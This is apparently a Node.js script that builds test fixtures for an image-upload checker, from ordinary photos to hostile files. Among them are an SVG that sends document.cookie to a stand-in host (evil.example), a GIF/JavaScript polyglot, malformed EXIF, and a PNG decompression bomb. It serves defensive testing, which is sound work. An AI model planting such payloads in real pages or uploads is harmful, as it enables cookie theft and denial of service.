#!/usr/bin/env node
// Makes the image-check test files: real pictures with ImageMagick (`convert`), everything hostile
// or odd in plain JS. Nothing big is committed; the e2e specs run this into a folder of the
// checkout (see e2e/fixtures/image-fixtures.ts).
//   node scripts/make-image-fixtures.mjs [out-dir]      (default: $TMPDIR/image-check-fixtures)
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { randomBytes } from 'node:crypto';
import {
  createWriteStream,
  mkdirSync,
  readFileSync,
  truncateSync,
  writeFileSync,
  closeSync,
  openSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { once } from 'node:events';
import { createDeflate } from 'node:zlib';
import { certificatePageArgs as page } from './certificate-page.mjs';
import { drawSpecimen, specimens } from './certificate-specimens.mjs';
import { missingDrawingTools } from './test-tools.mjs';

// Fail at once, naming what to install, rather than with ImageMagick's error halfway through.
const missing = missingDrawingTools();
if (missing) {
  console.error(missing);
  process.exit(1);
}

const out = process.argv[2] ?? join(tmpdir(), 'image-check-fixtures');
mkdirSync(out, { recursive: true });
const at = (name) => join(out, name);
const run = promisify(execFile);
const convert = (...args) => run('convert', args);

// Light sensor noise makes files photo-sized (a flat drawing compresses to a few KB).
const noise = ['-attenuate', '0.4', '+noise', 'Gaussian'];

// Independent conversions run side by side; each phase needs the one before.
await Promise.all([
  convert(...page(), at('page.png')),
  // A photographed card on a grey table, with a blown-out reflection across the text (an
  // ellipse drawn small and enlarged, so its edge is soft: blurring at full size takes ~20 s).
  // Sensor noise first: a highlight clips to flat white on top of it.
  convert(
    ...page({ paper: '#b9b3a8' }),
    ...noise,
    '(',
    '-size',
    '160x100',
    'xc:black',
    '-fill',
    'white',
    '-draw',
    'ellipse 60,33 33,17 0,360',
    '-resize',
    '1600x1000!',
    ')',
    '-compose',
    'screen',
    '-composite',
    '-quality',
    '90',
    at('glare.jpg'),
  ),
  convert(...page({ seal: false }), ...noise, '-quality', '90', at('no-seal.jpg')),
  convert('-size', '1x1', 'xc:#c33', at('tiny.png')),
]);
await Promise.all([
  convert(at('page.png'), ...noise, '-quality', '90', at('good.jpg')),
  convert(
    at('page.png'),
    '-colorspace',
    'Gray',
    ...noise,
    '-colorspace',
    'Gray',
    '-quality',
    '90',
    at('gray.jpg'),
  ),
  // Out of focus: detail lost by shrinking to an eighth and enlarging again.
  convert(
    at('page.png'),
    '-resize',
    '12.5%',
    '-resize',
    '1600x1000!',
    ...noise,
    '-quality',
    '90',
    at('blurred.jpg'),
  ),
  convert(at('page.png'), '-resize', '1000x', '-quality', '60', at('compact.jpg')),
  convert(at('page.png'), '-resize', '1000x', '-quality', '20', at('too-small.jpg')),
  convert(at('page.png'), '-resize', '1000x', at('good.gif')),
  // A large, clean scan: 4000 × 2500, mostly empty paper around the text.
  convert(
    at('page.png'),
    '-background',
    '#fbfaf7',
    '-gravity',
    'northwest',
    '-extent',
    '4000x2500',
    '-quality',
    '85',
    at('large-scan.jpg'),
  ),
]);
await Promise.all([
  convert(at('good.jpg'), at('good.png')),
  convert(at('good.jpg'), '-quality', '90', at('good.webp')),
  convert(at('good.jpg'), '-resize', '1500x', 'BMP3:' + at('good.bmp')),
  // HEIC encoding is slow (x265): a smaller picture keeps it to a second or two.
  convert(at('good.jpg'), '-resize', '800x', '-quality', '60', at('good.heic')),
  convert(at('good.jpg'), '-compress', 'lzw', at('good.tiff')),
  convert(at('good.jpg'), '-evaluate', 'multiply', '0.18', '-quality', '90', at('dark.jpg')),
  convert(at('good.jpg'), '-resize', '600x', '-quality', '95', at('small.jpg')),
]);
// The certificate photographed on a darker table, a little turned, all four edges in the picture;
// and the same photo cropped so the certificate's left edge leaves the picture.
await convert(
  '-size',
  '2000x1400',
  'xc:#6b5846',
  '(',
  at('page.png'),
  '-resize',
  '1500x',
  '-alpha',
  'set',
  '-background',
  'none',
  '-rotate',
  '-2',
  ')',
  '-gravity',
  'center',
  '-composite',
  ...noise,
  '-quality',
  '90',
  at('on-table.jpg'),
);
await convert(at('on-table.jpg'), '-crop', '1550x1400+450+0', '+repage', at('cut-left.jpg'));
// A blank sheet on the same table, the picture's right border crossing the sheet: only blank
// paper runs off, nothing printed is cut (the border is missing, `complete` warns).
await convert(
  '-size',
  '2000x1400',
  'xc:#6b5846',
  '-fill',
  '#f1efe9',
  '-draw',
  'rectangle 250,200 1750,1200',
  ...noise,
  '-crop',
  '1550x1400+0+0',
  '+repage',
  '-quality',
  '90',
  at('blank-sheet-cut-right.jpg'),
);

// Problems made from a real phone photo (e2e/real-photos/handwriting-text5.jpg: a handwritten
// sheet on a wooden desk, all four edges in the picture; MIT, see the manifest there), as
// `npm run eval:images` makes them: the bottom fifth of the sheet cut off, overexposed, and moved.
const realPhoto = join(import.meta.dirname, '..', 'e2e', 'real-photos', 'handwriting-text5.jpg');
await Promise.all([
  convert(
    realPhoto,
    '-gravity',
    'north',
    '-crop',
    '100%x76%+0+0',
    '+repage',
    '-quality',
    '85',
    at('real-cut-bottom.jpg'),
  ),
  convert(realPhoto, '-evaluate', 'multiply', '2.2', '-quality', '85', at('real-overexposed.jpg')),
  convert(realPhoto, '-motion-blur', '0x12+30', '-quality', '85', at('real-motion-blur.jpg')),
]);
// The cut photo as a phone stores a portrait shot: enlarged past 2560 px (so the worker decodes it
// scaled, with WebCodecs), the pixels lying on their side and EXIF orientation 6 saying "turn me
// a quarter clockwise to show".
await convert(
  at('real-cut-bottom.jpg'),
  '-resize',
  '3000x',
  '-rotate',
  '-90',
  '-orient',
  'RightTop',
  '-quality',
  '85',
  at('real-cut-bottom-sideways.jpg'),
);

const good = readFileSync(at('good.jpg'));
const compact = readFileSync(at('compact.jpg'));

// JPEG comment segments (up to 65,533 bytes each) pad a picture to an exact size, unchanged.
function padJpeg(jpeg, size) {
  const missing = size - jpeg.length;
  if (missing < 0) throw new Error(`cannot pad ${jpeg.length} bytes down to ${size}`);
  const segments = [];
  let left = missing;
  while (left > 0) {
    let take = Math.min(left, 65_537);
    if (left - take > 0 && left - take < 4) take -= 4; // leave room for one last whole segment
    const body = Math.max(0, take - 4);
    const seg = Buffer.alloc(4 + body, 0x20);
    seg[0] = 0xff;
    seg[1] = 0xfe;
    seg.writeUInt16BE(body + 2, 2);
    segments.push(seg);
    left -= 4 + body;
  }
  return Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
}
writeFileSync(at('size-low-band.jpg'), padJpeg(compact, 55_500));
writeFileSync(at('size-high-band.jpg'), padJpeg(compact, 5_100_000));
writeFileSync(at('big.jpg'), padJpeg(good, 6_000_000));
writeFileSync(at('truncated.jpg'), good.subarray(0, Math.floor(good.length * 0.6)));
for (const name of ['good.png', 'good.webp']) {
  const whole = readFileSync(at(name));
  writeFileSync(
    at(name.replace('good', 'truncated')),
    whole.subarray(0, Math.floor(whole.length * 0.6)),
  );
}
writeFileSync(at('renamed-png.jpg'), readFileSync(at('good.png')));

// EXIF (little-endian TIFF) with Orientation, Software and an Exif IFD LensModel; and XMP.
function exifSegment({ orientation, software, lensModel }) {
  const entries = [];
  if (orientation) entries.push({ id: 0x0112, type: 3, value: orientation });
  if (software) entries.push({ id: 0x0131, type: 2, value: software });
  if (lensModel) entries.push({ id: 0x8769, type: 4, value: 0 });
  const ifd = (tags, offset) => {
    const tail = [];
    const base = offset + 2 + tags.length * 12 + 4;
    const body = Buffer.alloc(2 + tags.length * 12 + 4);
    body.writeUInt16LE(tags.length, 0);
    [...tags]
      .sort((a, b) => a.id - b.id)
      .forEach((tag, i) => {
        const p = 2 + i * 12;
        body.writeUInt16LE(tag.id, p);
        body.writeUInt16LE(tag.type, p + 2);
        if (tag.type === 2) {
          const str = Buffer.from(`${tag.value}\0`);
          body.writeUInt32LE(str.length, p + 4);
          body.writeUInt32LE(base + Buffer.concat(tail).length, p + 8);
          tail.push(str);
        } else {
          body.writeUInt32LE(1, p + 4);
          if (tag.type === 3) body.writeUInt16LE(tag.value, p + 8);
          else body.writeUInt32LE(tag.value, p + 8);
        }
      });
    return Buffer.concat([body, ...tail]);
  };
  let ifd0 = ifd(entries, 8);
  let tiffBody = ifd0;
  if (lensModel) {
    entries.find((e) => e.id === 0x8769).value = 8 + ifd0.length;
    ifd0 = ifd(entries, 8);
    tiffBody = Buffer.concat([
      ifd0,
      ifd([{ id: 0xa434, type: 2, value: lensModel }], 8 + ifd0.length),
    ]);
  }
  const payload = Buffer.concat([
    Buffer.from('Exif\0\0'),
    Buffer.from([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0]),
    tiffBody,
  ]);
  const head = Buffer.from([0xff, 0xe1, 0, 0]);
  head.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([head, payload]);
}
function xmpSegment(creatorTool) {
  const xml = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmp:CreatorTool="${creatorTool}"/></rdf:RDF></x:xmpmeta>`;
  const payload = Buffer.concat([Buffer.from('http://ns.adobe.com/xap/1.0/\0'), Buffer.from(xml)]);
  const head = Buffer.from([0xff, 0xe1, 0, 0]);
  head.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([head, payload]);
}
const withSegment = (jpeg, segment) =>
  Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
writeFileSync(at('mirrored.jpg'), withSegment(good, exifSegment({ orientation: 2 })));
writeFileSync(at('rotated.jpg'), withSegment(good, exifSegment({ orientation: 6 })));
writeFileSync(
  at('selfie.jpg'),
  withSegment(
    good,
    exifSegment({ orientation: 1, lensModel: 'iPhone 12 front camera 2.87mm f/2.2' }),
  ),
);
writeFileSync(
  at('photoshop.jpg'),
  withSegment(good, exifSegment({ orientation: 1, software: 'Adobe Photoshop 25.0 (Windows)' })),
);
writeFileSync(at('gimp.jpg'), withSegment(good, xmpSegment('GIMP 2.10.36')));

// Malformed EXIF: every offset points far past the end of the file (and of the segment): the
// Software and Make values, the Exif IFD and the next IFD. Orientation 2 sits among them.
function badExifSegment() {
  const entry = (id, type, count, value) => {
    const e = Buffer.alloc(12);
    e.writeUInt16LE(id, 0);
    e.writeUInt16LE(type, 2);
    e.writeUInt32LE(count, 4);
    e.writeUInt32LE(value, 8);
    return e;
  };
  const count = Buffer.alloc(2);
  count.writeUInt16LE(4, 0);
  const next = Buffer.alloc(4);
  next.writeUInt32LE(0xfffffff0, 0);
  const tiff = Buffer.concat([
    Buffer.from([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0]),
    count,
    entry(0x010f, 2, 0x7fffffff, 5000), // Make: 2 GB of text at byte 5000
    entry(0x0112, 3, 1, 2), // Orientation: mirrored
    entry(0x0131, 2, 1000, 0xffffff00), // Software: 1000 bytes at 4 GB
    entry(0x8769, 4, 1, 0x7ffffff0), // Exif IFD at 2 GB
    next, // IFD1 at 4 GB
  ]);
  const payload = Buffer.concat([Buffer.from('Exif\0\0'), tiff]);
  const head = Buffer.from([0xff, 0xe1, 0, 0]);
  head.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([head, payload]);
}
writeFileSync(at('bad-exif.jpg'), withSegment(good, badExifSegment()));

// Not pictures at all.
writeFileSync(at('empty.jpg'), Buffer.alloc(0));
writeFileSync(at('random.jpg'), randomBytes(100_000));
// A HEIC whose boxes are in order but hold no picture: only the decoder can tell.
const ftyp = Buffer.from([
  0,
  0,
  0,
  24,
  ...Buffer.from('ftypheic'),
  0,
  0,
  0,
  0,
  ...Buffer.from('mif1heic'),
]);
const mdat = Buffer.concat([
  Buffer.from([0, 1, 0x86, 0xa0]),
  Buffer.from('mdat'),
  randomBytes(100_000 - 8),
]);
writeFileSync(at('garbage.heic'), Buffer.concat([ftyp, mdat]));
writeFileSync(at('notes.txt'), 'My certificate number is 91310000MA1FL0000X.\n'.repeat(2000));
writeFileSync(
  at('scan.pdf'),
  `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n${'% padding\n'.repeat(6000)}trailer << /Root 1 0 R >>\n%%EOF\n`,
);
const svg = `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="1000" onload="fetch('https://evil.example/steal')"><script>fetch('https://evil.example/x', { method: 'POST', body: document.cookie })</script><rect width="1600" height="1000" fill="red"/>${'<!-- padding -->'.repeat(4000)}</svg>\n`;
writeFileSync(at('script.svg'), svg);
// The same two, named like pictures.
writeFileSync(at('script-svg.png'), svg);
writeFileSync(at('scan-pdf.jpg'), readFileSync(at('scan.pdf')));

// A GIF/JavaScript polyglot: a valid 1 × 1 GIF that also parses as a script. The width bytes "/*"
// open a comment over the binary header; a GIF comment block closes it and sets the page title,
// then "//" hides the rest. The checker must call it a GIF and never run it.
const script = `*/=1;document.title='polyglot ran';//`;
const polyglot = Buffer.concat([
  Buffer.from('GIF89a/*', 'latin1'), // logical screen 10799 wide…
  Buffer.from([0x0a, 0x00, 0x80, 0x00, 0x00]), // …10 high; 2-colour table
  Buffer.from([0, 0, 0, 0xff, 0xff, 0xff]),
  Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00]), // one pixel
  Buffer.from([0x21, 0xfe, script.length]),
  Buffer.from(script, 'latin1'),
  Buffer.from([0x00, 0x3b]), // end of comment, GIF trailer (";" to JavaScript)
]);
new Function(polyglot.toString('latin1')); // parses as JavaScript (compiled, never called)
writeFileSync(at('polyglot.gif'), polyglot);

// Decompression bomb: 20000 × 20000 one-bit PNG, 400 million pixels in a few dozen KB.
// And a 10000 × 10000 (100 MP) greyscale PNG. Rows stream through zlib: memory stays small.
function crc32(buf) {
  let c = ~0;
  for (const b of buf) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  }
  return ~c >>> 0;
}
function chunk(type, data) {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'ascii');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type, 'ascii'), data])), 0);
  return Buffer.concat([head, data, crc]);
}
async function bigPng(name, width, height, bitDepth) {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = bitDepth; // greyscale
  const deflate = createDeflate({ level: 9 });
  const parts = [];
  deflate.on('data', (d) => parts.push(d));
  const row = Buffer.alloc(1 + Math.ceil((width * bitDepth) / 8), 0);
  for (let y = 0; y < height; y++) {
    row.fill(y % 97 === 0 ? 0 : 0xff, 1); // a few dark lines
    if (!deflate.write(row)) await once(deflate, 'drain');
  }
  deflate.end();
  await once(deflate, 'end');
  const file = createWriteStream(at(name));
  file.write(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));
  file.write(chunk('IHDR', ihdr));
  file.write(chunk('IDAT', Buffer.concat(parts)));
  file.end(chunk('IEND', Buffer.alloc(0)));
  await once(file, 'finish');
}
await bigPng('bomb.png', 20_000, 20_000, 1);
await bigPng('huge-100mp.png', 10_000, 10_000, 8);

// 200 MB of nothing, named like a photo: sparse, so it costs no disk space.
closeSync(openSync(at('sparse-200mb.jpg'), 'w'));
truncateSync(at('sparse-200mb.jpg'), 200 * 1024 * 1024);

// Certificates to read (e2e/check-reading.spec.ts): invented ID card and business license.
const specimen = (id) => specimens.find((s) => s.id === id);
await Promise.all([
  drawSpecimen(specimen('id1'), 'clean', at('reading-id-card.png'), 1600),
  drawSpecimen(specimen('id1'), 'mirrored', at('reading-id-card-mirrored.png'), 1600),
  drawSpecimen(specimen('bl2'), 'desk', at('reading-license-desk.jpg'), 1600),
]);

console.log(`image fixtures written to ${out}`);
